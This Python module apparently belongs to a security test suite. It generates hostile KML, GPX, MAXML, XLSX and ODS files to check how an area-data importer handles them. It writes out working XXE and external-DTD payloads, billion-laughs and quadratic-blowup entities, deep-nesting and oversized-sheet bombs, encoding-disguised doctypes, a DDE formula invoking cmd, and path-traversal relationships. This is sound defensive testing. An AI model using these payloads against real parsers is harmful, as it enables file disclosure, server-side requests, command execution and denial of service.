"""XML that declares entities, asks for other files, or grows; in every format that is XML inside."""

from __future__ import annotations

import zipfile
from pathlib import Path

import xlsxwriter

from hostile.trap import WKT, Trap, add, hostile, kml, placemark

MARKUP = "markup"
LAUGHS = "<!DOCTYPE a [<!ENTITY l0 'ha'>" + "".join(
    f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 11)
) + "]>"  # fmt: skip
QUADRATIC = f"<!DOCTYPE a [<!ENTITY q '{'x' * 50_000}'>]>"
PARAMETER = '<!DOCTYPE a [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p; %all;]>'
HEADS = {
    "xxe_file": ('<!DOCTYPE a [<!ENTITY x SYSTEM "file://{file}">]>', "&x;"),
    "xxe_web": ('<!DOCTYPE a [<!ENTITY x SYSTEM "{url}/x">]>', "&x;"),
    "outer_dtd": ('<!DOCTYPE a SYSTEM "{url}/a.dtd">', ""),
    "parameter_entity": (PARAMETER, ""),
    "billion_laughs": (LAUGHS, "&l10;"),
    "quadratic_blowup": (QUADRATIC, "&q;" * 20_000),
}
BODIES = {
    "kml": ("areas.kml", lambda head, text: kml(f"<Placemark><name>{text}</name></Placemark>", head)),
    "gpx": (
        "areas.gpx",
        lambda head, text: (
            f'{head}<gpx version="1.1"><wpt lat="17.5" lon="105"><name>{text}</name></wpt></gpx>'
        ),
    ),
    "maxml": (
        "areas.maxml",
        lambda head, text: f"{head}<MineActionFieldReport><id>{text}</id></MineActionFieldReport>",
    ),
}


def _with(head: str, kind: str):
    def make(folder: Path, trap: Trap) -> None:
        name, body = BODIES[kind]
        declared, used = (part.replace("{file}", str(trap["canary.txt"])) for part in HEADS[head])
        (folder / name).write_text(body(declared.replace("{url}", trap.url), used))

    return make


for _head in HEADS:
    for _kind in BODIES:
        add(MARKUP, f"{_head}_in_{_kind}", _with(_head, _kind))


@hostile(MARKUP)
def doctype_hidden_in_utf16(folder: Path, trap: Trap) -> None:
    head = f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{trap["canary.txt"]}">]>'
    text = kml(placemark("&x;"), head).replace("UTF-8", "UTF-16")
    (folder / "areas.kml").write_bytes(text.encode("utf-16"))


@hostile(MARKUP)
def doctype_hidden_in_utf7(folder: Path, trap: Trap) -> None:
    text = '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE kml SYSTEM "' + f'{trap.url}/a">' + kml("")
    (folder / "areas.kml").write_text(text)


@hostile(MARKUP)
def network_link_and_outer_schema(folder: Path, trap: Trap) -> None:
    link = "<NetworkLink><Link><href>{}</href></Link></NetworkLink>"
    links = link.format(f"file://{trap['canary.kml']}") + link.format(f"{trap.url}/more.kml")
    overlay = f"<GroundOverlay><Icon><href>{trap.url}/a.png</href></Icon></GroundOverlay>"
    data = f'<ExtendedData><SchemaData schemaUrl="{trap.url}/s.kml#s"><SimpleData name="a">b</SimpleData>'
    used = placemark().replace(
        "<Polygon>", f"<styleUrl>{trap.url}/s.kml#a</styleUrl>{data}</SchemaData></ExtendedData><Polygon>"
    )
    (folder / "areas.kml").write_text(kml(links + overlay + used))


@hostile(MARKUP)
def kml_update_of_another_file(folder: Path, trap: Trap) -> None:
    update = f"<NetworkLinkControl><Update><targetHref>file://{trap['canary.kml']}</targetHref></Update></NetworkLinkControl>"
    (folder / "areas.kml").write_text(kml(placemark()).replace("<Document>", f"{update}<Document>"))


@hostile(MARKUP)
def kml_of_deep_folders(folder: Path, trap: Trap) -> None:
    deep = 20_000
    (folder / "areas.kml").write_text(kml("<Folder>" * deep + placemark() + "</Folder>" * deep))


@hostile(MARKUP)
def kml_of_deep_multigeometries(folder: Path, trap: Trap) -> None:
    deep = 20_000
    point = "<Point><coordinates>105,17</coordinates></Point>"
    shape = "<MultiGeometry>" * deep + point + "</MultiGeometry>" * deep
    (folder / "areas.kml").write_text(kml(f"<Placemark>{shape}</Placemark>"))


@hostile(MARKUP)
def kml_behind_endless_comments(folder: Path, trap: Trap) -> None:
    (folder / "areas.kml").write_text("<!--a-->" * 60 + "X")


@hostile(MARKUP)
def xml_doctype_of_spaces(folder: Path, trap: Trap) -> None:
    (folder / "areas.xml").write_text("<!DOCTYPE" + " " * 500_000)
    (folder / "areas.gpx").write_text("<!DOCTYPE" + " " * 500_000)
    (folder / "areas.maxml").write_text("<!DOCTYPE[" + "] " * 300_000)


@hostile(MARKUP)
def gpx_of_deep_extensions(folder: Path, trap: Trap) -> None:
    deep = "<e>" * 100_000 + "</e>" * 100_000
    (folder / "areas.gpx").write_text(
        f'<gpx><wpt lat="17.5" lon="105"><extensions>{deep}</extensions></wpt></gpx>'
    )


@hostile(MARKUP)
def maxml_of_deep_elements(folder: Path, trap: Trap) -> None:
    deep = "".join(f"<lat{n}>" for n in range(8_000)) + "".join(f"</lat{n}>" for n in reversed(range(8_000)))
    (folder / "areas.maxml").write_text(f"<MineActionFieldReport>{deep}</MineActionFieldReport>")


def workbook(folder: Path, **replaced: str) -> Path:
    """Write a workbook with one area, then put other texts for some of its members."""
    plain = folder / "plain.tmp"
    with xlsxwriter.Workbook(plain) as book:
        sheet = book.add_worksheet("areas")
        sheet.write_row(0, 0, ["cha_id", "wkt"])
        sheet.write_row(1, 0, ["X-1", WKT])
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(folder / "areas.xlsx", "w", 8) as new:
        for name in old.namelist():
            new.writestr(name, replaced.pop(name, old.read(name)))
        for name, text in replaced.items():
            new.writestr(name, text)
    plain.unlink()
    return folder / "areas.xlsx"


SHEET, BOOK, TEXTS = "xl/worksheets/sheet1.xml", "xl/workbook.xml", "xl/sharedStrings.xml"


def _in_workbook(member: str, head: str):
    def make(folder: Path, trap: Trap) -> None:
        path = workbook(folder)
        with zipfile.ZipFile(path) as book:
            text = book.read(member).decode()
        declared, used = (part.replace("{file}", str(trap["canary.txt"])) for part in HEADS[head])
        start = text.index("?>") + 2
        text = text[:start] + declared.replace("{url}", trap.url) + text[start:].replace("X-1", used)
        path.unlink()
        workbook(folder, **{member: text})

    return make


for _member, _word in ((SHEET, "sheet"), (BOOK, "book"), (TEXTS, "texts")):
    for _head in ("xxe_file", "billion_laughs"):
        add(MARKUP, f"{_head}_in_xlsx_{_word}", _in_workbook(_member, _head))


def cells(*rows: str, dimension: str = "A1:B2") -> str:
    return (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData>{"".join(rows)}</sheetData></worksheet>'
    )


def row(number: int, **texts: str) -> str:
    inside = "".join(
        f'<c r="{column}{number}" t="inlineStr"><is><t>{text}</t></is></c>' for column, text in texts.items()
    )
    return f'<row r="{number}">{inside}</row>'


@hostile(MARKUP)
def xlsx_of_the_largest_dimension(folder: Path, trap: Trap) -> None:
    rows = row(1, A="cha_id", B="wkt"), row(2, A="X-1", B=WKT)
    workbook(folder, **{SHEET: cells(*rows, dimension="A1:XFD1048576")})


@hostile(MARKUP)
def xlsx_with_one_cell_at_the_far_corner(folder: Path, trap: Trap) -> None:
    rows = row(1, A="cha_id", B="wkt"), row(2, A="X-1", B=WKT), row(1048576, XFD="far")
    workbook(folder, **{SHEET: cells(*rows)})


@hostile(MARKUP)
def xlsx_with_cells_that_never_end(folder: Path, trap: Trap) -> None:
    workbook(folder, **{SHEET: cells(row(1, A="cha_id", B="wkt"), '<row r="2">' + '<c r="A2">' * 200_000)})


@hostile(MARKUP)
def xlsx_with_outer_links_and_dde(folder: Path, trap: Trap) -> None:
    rows = row(1, A="cha_id", B="wkt"), row(2, A="=cmd|' /C calc'!A0", B=WKT)
    outer = f'<externalLink><ddeLink ddeService="cmd" ddeTopic="/C calc {trap.url}"/></externalLink>'
    targets = f'<Relationships><Relationship Id="r" Type="x" Target="file://{trap["canary.csv"]}" TargetMode="External"/></Relationships>'
    workbook(folder, **{SHEET: cells(*rows), "xl/externalLinks/externalLink1.xml": outer,
                        "xl/externalLinks/_rels/externalLink1.xml.rels": targets})  # fmt: skip


@hostile(MARKUP)
def xlsx_whose_sheet_lies_outside(folder: Path, trap: Trap) -> None:
    relations = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"'
        f' Target="../../../../../..{trap["canary.csv"]}"/></Relationships>'
    )
    workbook(folder, **{"xl/_rels/workbook.xml.rels": relations})


@hostile(MARKUP)
def ods_of_endless_cells(folder: Path, trap: Trap) -> None:
    spaces = "urn:oasis:names:tc:opendocument:xmlns"
    cell = '<table:table-cell table:number-columns-repeated="16384" office:value-type="string"><text:p>a</text:p></table:table-cell>'
    text = (
        f'<office:document-content xmlns:office="{spaces}:office:1.0" xmlns:table="{spaces}:table:1.0" '
        f'xmlns:text="{spaces}:text:1.0"><office:body><office:spreadsheet><table:table table:name="a">'
        f'<table:table-row table:number-rows-repeated="1048576">{cell}</table:table-row></table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    with zipfile.ZipFile(folder / "areas.ods", "w", 8) as book:
        book.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        book.writestr("content.xml", text)
        book.writestr("META-INF/manifest.xml", "<manifest/>")
